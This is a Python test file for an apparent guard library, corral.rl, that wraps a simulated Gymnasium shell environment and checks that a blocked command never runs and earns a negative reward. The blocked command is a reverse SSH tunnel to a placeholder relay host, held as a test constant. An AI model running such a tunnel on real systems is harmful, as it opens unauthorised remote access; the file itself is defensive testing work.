"""corral.rl with the real Gymnasium: a shell-command environment, wrapped and composed."""

from __future__ import annotations

from typing import Any

import gymnasium
from gymnasium.wrappers import RecordEpisodeStatistics

from corral import Guard
from corral.rl import RolloutGuard
from corral.rl.gym import CorralWrapper

TUNNEL = "ssh -N -R 8080:localhost:22 user@relay.invalid"


class ShellEnv(gymnasium.Env):  # type: ignore[misc, type-arg]
    """Pretends to run the command it is given (records it; runs nothing); reward 1 per step."""

    def __init__(self) -> None:
        self.action_space = gymnasium.spaces.Text(max_length=200)
        self.observation_space = gymnasium.spaces.Text(max_length=4000)
        self.ran: list[str] = []
        self.steps = 0

    def reset(
        self, *, seed: int | None = None, options: dict[str, Any] | None = None
    ) -> tuple[str, dict[str, Any]]:
        super().reset(seed=seed)
        self.steps = 0
        return "ready", {}

    def step(self, action: str) -> tuple[str, float, bool, bool, dict[str, Any]]:
        self.ran.append(action)
        self.steps += 1
        return f"ran: {action}"[:4000], 1.0, self.steps >= 3, False, {}


def exec_of(command: str) -> dict[str, Any]:
    return {"kind": "exec", "command": command}


def test_a_blocked_step_never_reaches_a_real_gymnasium_env_and_statistics_see_the_penalty() -> None:
    inner = ShellEnv()
    env = RecordEpisodeStatistics(CorralWrapper(inner, RolloutGuard(Guard("default")), exec_of))
    _, info = env.reset(seed=1, options={"episode": "ep-7"})
    assert info["corral_episode"] == "ep-7"
    rewards = []
    for command in ("ls -la", TUNNEL, "pytest -q", "git status"):
        _, reward, terminated, truncated, step_info = env.step(command)
        rewards.append(float(reward))
        if terminated or truncated:
            break
    assert inner.ran == ["ls -la", "pytest -q", "git status"]  # the tunnel never ran
    assert rewards[0] == 1.0 and rewards[1] < 0 and rewards[2] == 1.0
    assert step_info["corral"]["episode"] == "ep-7"
    episode = step_info["episode"]  # RecordEpisodeStatistics' summary at the episode's end
    assert episode["l"] == 4 and abs(episode["r"] - sum(rewards)) < 1e-6


def test_the_wrapper_is_a_gymnasium_wrapper_with_the_inner_spaces() -> None:
    inner = ShellEnv()
    env = CorralWrapper(inner, RolloutGuard(Guard("default")), exec_of)
    assert isinstance(env, gymnasium.Wrapper)
    assert env.action_space is inner.action_space
    assert env.unwrapped is inner
